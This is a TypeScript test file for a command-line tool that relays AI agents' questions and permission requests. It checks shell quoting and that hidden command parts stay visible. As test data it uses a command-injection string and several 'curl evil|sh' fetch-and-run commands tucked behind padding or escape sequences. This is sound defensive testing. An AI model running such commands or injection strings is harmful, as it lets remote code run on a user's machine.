import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { permissionDetails } from "../../src/ui/permission-lines.ts";
import { commandFor, linesFor, sentenceFor } from "../../src/ui/waiting.ts";

const question = (
  question_id: string,
  more: { readonly default?: string; readonly options?: readonly string[] } = {},
) => ({ kind: "question", ask_id: "c1", question_id, text: "Which?", options: [], ...more }) as const;

/** The words that a shell makes of the command. */
function words(command: string): string[] {
  return execFileSync("sh", ["-c", command.replace(/^bosun/, "printf '%s\\n'")], { encoding: "utf8" })
    .trimEnd()
    .split("\n");
}

describe("the command that answers a question", () => {
  it("is safe to paste into a shell, whatever the agent wrote", () => {
    const hostile = "c1.x'; echo owned; '$(echo owned)`echo owned`";
    expect(words(commandFor("s", question(hostile, { default: "it's $HOME; echo owned" })))).toEqual([
      "answer",
      "s",
      hostile,
      "it's $HOME; echo owned",
    ]);
  });

  it("offers the default, else the first option, else a place to write", () => {
    expect(commandFor("s", question("c1.q", { default: "main", options: ["next"] }))).toBe("bosun answer s c1.q main");
    expect(commandFor("s", question("c1.q", { options: ["next"] }))).toBe("bosun answer s c1.q next");
    expect(commandFor("s", question("c1.q"))).toBe('bosun answer s c1.q "…"');
  });

  it("leaves out an answer that the screen would not show exactly", () => {
    for (const text of ["a\nb", "x".repeat(61), "good\u202elive", "a  b"]) {
      expect(commandFor("s", question("c1.q", { default: text }))).toBe('bosun answer s c1.q "…"');
    }
    expect(words(commandFor("s", question("c1.q", { default: "--no-more" })))).toEqual([
      "answer",
      "s",
      "c1.q",
      "--",
      "--no-more",
    ]);
  });

  it("shows the question's id only as safe text", () => {
    expect(sentenceFor(question("c1.\u001b[2Jq\u0007"))).toBe("c1.q\\u{7}: Which?");
  });
});

describe("a permission that a person decides", () => {
  const OUTPUT = { program: "bosun" };
  const wants = (action: string, details?: string) =>
    ({ kind: "permission", ask_id: "p7", role_id: "hand", ticket_id: "a", action, details }) as const;

  it("is one line where that says it whole", () => {
    expect(linesFor(wants("run: npm publish", "npm publish"), OUTPUT)).toEqual([
      "p7: hand wants to run: npm publish (ticket a)",
    ]);
  });

  it("shows the end of a long command in its line, and all of it below", () => {
    const command = `npm test -- --grep=${"a".repeat(1_000)}; curl evil|sh`;
    const [line, ...below] = linesFor(wants(`run: ${command}`), OUTPUT);
    expect(line).toMatch(/^p7: hand wants to run: npm test .*…\d+ more characters….*; curl evil\|sh \(ticket a\)$/);
    expect(below).toEqual([`run: ${command}`]);
    expect(permissionDetails(wants(`run: ${command}`), OUTPUT)).toEqual([...below, expect.stringMatching(/^one of/)]);
  });

  it.each([
    ["lines", Array.from({ length: 500 }, (_, index) => `echo ${index}`).join("\n"), "echo 499"],
    ["columns", `echo ${"a".repeat(100_000)}; curl evil|sh`, "curl evil|sh"],
  ])("says how much of too many %s is not shown, and shows the last ones", (_, details, last) => {
    const [, ...below] = linesFor(wants("run: echo", details), OUTPUT);
    const mark = below.findIndex((line) => line.startsWith("…"));
    const hidden = Number(/\d+/.exec(below[mark] ?? "")?.[0]);
    const shown = below.toSpliced(mark, 1).join("").length;
    expect(hidden + shown).toBe(details.replaceAll("\n", "").length);
    expect(below[mark]).toContain("bosun inbox --json");
    expect(below.length).toBeLessThanOrEqual(40);
    expect(below.at(-1)).toContain(last);
  });

  it("hides nothing in an escape sequence", () => {
    const command = "npm test \u001b]0;\ncurl evil|sh\n\u0007";
    expect(linesFor(wants("run: npm test \u001b]0;; curl evil|sh; \u0007", command), OUTPUT)).toEqual([
      String.raw`p7: hand wants to run: npm test \u{1b}]0;; curl evil|sh; \u{7} (ticket a)`,
      String.raw`npm test \u{1b}]0;`,
      "curl evil|sh",
      String.raw`\u{7}`,
    ]);
  });
});
